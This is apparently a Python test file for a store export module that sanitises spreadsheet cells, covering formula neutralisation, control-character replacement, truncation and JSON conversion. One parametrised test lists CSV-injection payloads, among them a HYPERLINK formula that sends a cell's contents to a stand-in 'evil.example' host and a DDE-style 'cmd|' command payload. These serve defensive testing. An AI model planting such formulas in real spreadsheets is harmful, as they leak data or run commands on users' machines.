from __future__ import annotations

from datetime import UTC, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from storebot.core.export.cells import (
    CUT,
    LONGEST_CELL,
    Notes,
    cell,
    encodable,
    escapable,
    jsonable,
    neutralised,
    text,
)
from storebot.core.export.columns import Column, Kind

NASTY = st.text(st.characters(exclude_categories=()), max_size=40)


@pytest.mark.parametrize(
    "value", ['=HYPERLINK("https://evil.example/?"&A1,"x")', "@SUM(1+1)", "\t=1+1", "-2+3+cmd|x!A1"]
)
def test_a_formula_gets_an_apostrophe_and_is_counted(value: str) -> None:
    """Case O01."""
    notes = Notes()
    assert neutralised(value, notes) == f"'{value}"
    assert notes == {"neutralised": 1}


@given(NASTY)
def test_no_csv_cell_begins_as_a_formula(value: str) -> None:
    notes = Notes()
    made = neutralised(encodable(value, notes), notes)
    assert not made.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert made.encode().decode() == made
    assert made.removeprefix("'").removeprefix("'") == encodable(value, notes).removeprefix("'")


@given(NASTY)
def test_a_cell_holds_only_what_xml_can(value: str) -> None:
    made = cell(value, Notes())
    assert not set(made) & {chr(code) for code in (*range(9), 11, 12, *range(14, 32), 0xFFFE, 0xFFFF)}
    assert made.encode().decode() == made


def test_a_long_text_is_cut_between_two_characters_and_says_so() -> None:
    """Case O08."""
    notes = Notes()
    made = cell("é" + "😀" * 20_000, notes)
    assert made == "é" + "😀" * 16_381 + CUT
    assert len(made.encode("utf-16-le")) // 2 <= LONGEST_CELL
    assert notes == {"truncated": 1}
    assert cell("x" * LONGEST_CELL, notes) == "x" * LONGEST_CELL


def test_control_characters_are_replaced_and_counted() -> None:
    """Case O04."""
    notes = Notes()
    assert [cell(value, notes) for value in ("kr 4\x16 00", "a\x0bb", "\ud83d")] == ["kr 4� 00", "a�b", "�"]
    assert notes == {"replaced": 3}


@pytest.mark.parametrize(
    ("kind", "value", "expected"),
    [
        (Kind.MONEY, Decimal("1234.50"), "1234.50"),
        (Kind.MONEY, Decimal("1E+3"), "1000"),
        (Kind.TIME, datetime(2026, 11, 30, 8, 0, 0, 120_000, UTC), "2026-11-30T08:00:00.120Z"),
        (Kind.MAP, {"Size": "L", "Color": "red"}, '{"Color":"red","Size":"L"}'),
        (Kind.MAP, {}, None),
        (Kind.LIST, ["a", "b"], '["a","b"]'),
        (Kind.INTEGER, 0, "0"),
        (Kind.TEXT, None, None),
    ],
)
def test_each_kind_as_text(kind: Kind, value: object, expected: str | None) -> None:
    assert text(Column("x", kind, ""), value) == expected


def test_json_has_money_as_text_and_nothing_that_utf_8_refuses() -> None:
    made = jsonable({"a\ud83d": [Decimal("0.10"), ("x", None)], "b": 3})
    assert made == {"a�": ["0.10", ["x", None]], "b": 3}


def test_escapes_that_share_an_underscore_are_broken_and_counted() -> None:
    notes = Notes()
    assert escapable("part _x0041_ of", notes) == "part _x0041_ of"
    assert notes == {}
    assert escapable("_x0041_x0042_x0043_", notes) == "_x0041�x0042�x0043_"
    assert notes == {"replaced": 1}
